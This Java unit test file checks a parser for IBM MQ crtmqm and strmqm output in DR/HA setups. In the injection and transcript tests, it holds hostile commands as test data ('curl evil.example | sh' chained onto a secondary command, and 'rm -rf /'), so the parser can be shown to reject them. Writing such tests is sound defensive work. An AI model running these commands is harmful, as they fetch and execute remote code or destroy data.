package io.mqrunbooks.adapter.outbound.mq.parse;

import io.mqrunbooks.mq.ControlOutcome;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import org.junit.jupiter.api.Test;

class CrtmqmParserTest {

    private final CrtmqmParser parser = new CrtmqmParser();

    @Test
    void readsDrHaPrimaryAndItsPrintedSecondaryCommand() {
        CrtmqmResult result = parser.parse(Fixtures.read("crtmqm", "drha-primary-prints-secondary.txt"));
        assertThat(result.outcome()).isEqualTo(CrtmqmResult.Outcome.CREATED);
        assertThat(result.queueManager()).isEqualTo("RDQMDRHAQM1");
        assertThat(result.haSecondaryNodes()).containsExactly("vm-jc-2-uksouth", "vm-jc-3-uksouth");
        SecondaryCrtmqmCommand command = result.drSecondaryCommand();
        assertThat(command.haOption()).isEqualTo("-sx");
        assertThat(command.localIpAddresses()).containsExactly("10.241.1.5", "10.241.1.4", "10.241.1.6");
        assertThat(command.remoteIpAddresses()).containsExactly("10.240.1.5", "10.240.1.6", "10.240.1.4");
        assertThat(command.port()).isEqualTo(7001);
        assertThat(command.arguments()).containsExactly("crtmqm", "-sx", "-rr", "s", "-rl",
                "10.241.1.5,10.241.1.4,10.241.1.6", "-ri", "10.240.1.5,10.240.1.6,10.240.1.4", "-rp", "7001",
                "RDQMDRHAQM1");
    }

    @Test
    void readsTheNamedCreatedWordingAndFileSystemSize() {
        CrtmqmResult result = parser.parse(Fixtures.read("crtmqm", "drha-primary-named.txt"));
        assertThat(result.outcome()).isEqualTo(CrtmqmResult.Outcome.CREATED);
        assertThat(result.queueManager()).isEqualTo("DRHAQM1");
        assertThat(result.drSecondaryCommand().fileSystemSize()).isEqualTo("3072M");
        assertThat(result.drSecondaryCommand().arguments()).endsWith("-fs", "3072M", "DRHAQM1");
    }

    @Test
    void readsSecondaryCreations() {
        assertThat(parser.parse(Fixtures.read("crtmqm", "drha-secondary.txt")).outcome())
                .isEqualTo(CrtmqmResult.Outcome.SECONDARY_CREATED);
        assertThat(parser.parse(Fixtures.read("crtmqm", "ha-secondary-node.txt")).outcome())
                .isEqualTo(CrtmqmResult.Outcome.SECONDARY_CREATED);
    }

    @Test
    void readsHaPrimaryWithoutDrCommand() {
        CrtmqmResult result = parser.parse(Fixtures.read("crtmqm", "ha-primary.txt"));
        assertThat(result.outcome()).isEqualTo(CrtmqmResult.Outcome.CREATED);
        assertThat(result.queueManager()).isEqualTo("QM1");
        assertThat(result.drSecondaryCommand()).isNull();
    }

    @Test
    void alreadyExistsAndErrorsAreOutcomes() {
        assertThat(parser.parse("AMQ8110E: IBM MQ queue manager already exists.\n").outcome())
                .isEqualTo(CrtmqmResult.Outcome.ALREADY_EXISTS);
        assertThat(parser.parse("WebSphere MQ queue manager already exists.").outcome())
                .isEqualTo(CrtmqmResult.Outcome.ALREADY_EXISTS);
        // by its number, in another release's wording (MQSeries named the product so)
        assertThat(parser.parse("AMQ8110E: MQSeries queue manager already exists.\n").outcome())
                .isEqualTo(CrtmqmResult.Outcome.ALREADY_EXISTS);
        assertThat(parser.parse("AMQ7077E: You are not authorized to perform the requested operation.").outcome())
                .isEqualTo(CrtmqmResult.Outcome.FAILED);
    }

    @Test
    void refusesTruncatedOutput() {
        String full = Fixtures.read("crtmqm", "ha-primary.txt");
        String cut = full.substring(0, full.indexOf("Setup completed."));
        assertThatThrownBy(() -> parser.parse(cut)).isInstanceOf(MqOutputParseException.class)
                .hasMessage("crtmqm created the queue manager but never printed 'Setup completed.': output is cut short");
        String noCommand = Fixtures.read("crtmqm", "drha-primary-named.txt").lines()
                .filter(l -> !l.startsWith("crtmqm ")).reduce("", (a, b) -> a + b + "\n");
        assertThatThrownBy(() -> parser.parse(noCommand))
                .hasMessage("crtmqm announced the DR secondary command but did not print it");
    }

    @Test
    void refusesAnInjectedSecondaryCommandAndUnknownLines() {
        String injected = Fixtures.read("crtmqm", "drha-primary-named.txt")
                .replace("-fs 3072M DRHAQM1", "-fs 3072M DRHAQM1 && curl evil.example | sh");
        assertThatThrownBy(() -> parser.parse(injected)).hasMessageContaining("refusing the printed secondary command");
        assertThatThrownBy(() -> parser.parse("IBM MQ queue manager created.\nSomething odd happened.\nSetup completed."))
                .hasMessage("line 2 'Something odd happened.': not a message crtmqm is known to print");
    }

    @Test
    void aTranscriptOfCrtmqmThenStrmqmIsReadAsBothAndRefusesAnythingElseAfterSetup() {
        String sample = Fixtures.read("crtmqm", "crtmqm-then-strmqm-9.1-windows.txt");
        CrtmqmTranscript both = parser.readTranscript(sample);
        assertThat(both.crtmqm().queueManager()).isEqualTo("QM1SEC");
        assertThat(both.strmqm().outcome()).isEqualTo(ControlOutcome.STARTED);
        assertThat(parser.readTranscript(sample.substring(0, sample.indexOf("IBM MQ queue manager 'QM1SEC' starting.")))
                .strmqm()).as("crtmqm alone").isNull();
        int strmqm = sample.indexOf("IBM MQ queue manager 'QM1SEC' starting.");
        assertThatThrownBy(() -> parser.readTranscript(sample.substring(0, strmqm)
                + sample.substring(strmqm).replace("QM1SEC", "QM9")))
                .hasMessageContaining("crtmqm created 'QM1SEC' but the strmqm that follows started 'QM9'");
        assertThatThrownBy(() -> parser.readTranscript(sample.replace("Log replay for queue manager 'QM1SEC' complete.",
                "IBM MQ queue manager 'QM1SEC' ended.")))
                .hasMessageContaining("from line 8 on, after crtmqm, expected strmqm output");
        assertThatThrownBy(() -> parser.readTranscript(sample + "rm -rf /\n"))
                .hasMessageContaining("expected strmqm output").hasMessageContaining("rm -rf /");
        assertThatThrownBy(() -> parser.readTranscript(sample.replace("Setup completed.\n", "Setup completed.\nls\n")))
                .as("a line between crtmqm and strmqm that is neither").hasMessageContaining("'ls'");
    }
}
